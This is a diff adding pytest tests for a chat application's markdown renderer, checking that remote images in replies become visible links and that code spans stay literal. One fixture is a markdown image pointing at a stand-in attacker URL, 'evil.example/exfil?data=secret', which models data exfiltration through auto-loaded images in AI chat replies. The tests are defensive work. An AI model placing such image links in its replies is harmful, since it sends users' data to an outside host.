@@ -2,7 +2,7 @@ from html.parser import HTMLParser
 
 import pytest
 
-from lib.chat.markdown_html import render_markdown
+from lib.chat.markdown_html import literal, render_markdown, without_images
 
 DANGEROUS_TAGS = {"script", "iframe", "svg", "object", "embed", "img", "style", "link", "meta"}
 
@@ -61,3 +61,28 @@ def test_markdown_still_renders() -> None:
 
 def test_tags_are_shown_as_text() -> None:
     assert "&lt;script&gt;" in render_markdown("<script>x</script>")
+
+
+def test_a_remote_image_in_a_reply_becomes_a_link_naming_its_host() -> None:
+    html = render_markdown("look ![the chart](http://evil.example/exfil?data=secret) here")
+    assert "<img" not in html
+    assert 'href="http://evil.example/exfil?data=secret"' in html and "image: the chart (evil.example)" in html
+    assert "noreferrer" in html
+
+
+def test_images_are_defanged_for_streamlits_renderer_but_code_is_left_as_typed() -> None:
+    text = (
+        "see ![x](http://evil.example/a.png) and `![k](http://code.example/k)`\n"
+        "![ref][1]\n\n[1]: http://ref.example/r.png\n"
+        "```\n![c](http://fenced.example/c)\n```"
+    )
+    out = without_images(text)
+    assert "[image: x (evil.example)](http://evil.example/a.png)" in out
+    assert "`![k](http://code.example/k)`" in out and "![c](http://fenced.example/c)" in out
+    assert "\\![ref][1]" in out
+    rendered = render_markdown(out)
+    assert "<img" not in rendered.replace("&lt;img", "")
+
+
+def test_literal_text_shows_as_typed() -> None:
+    assert literal("![x](http://e) **b**") == "\\!\\[x\\]\\(http://e\\) \\*\\*b\\*\\*"
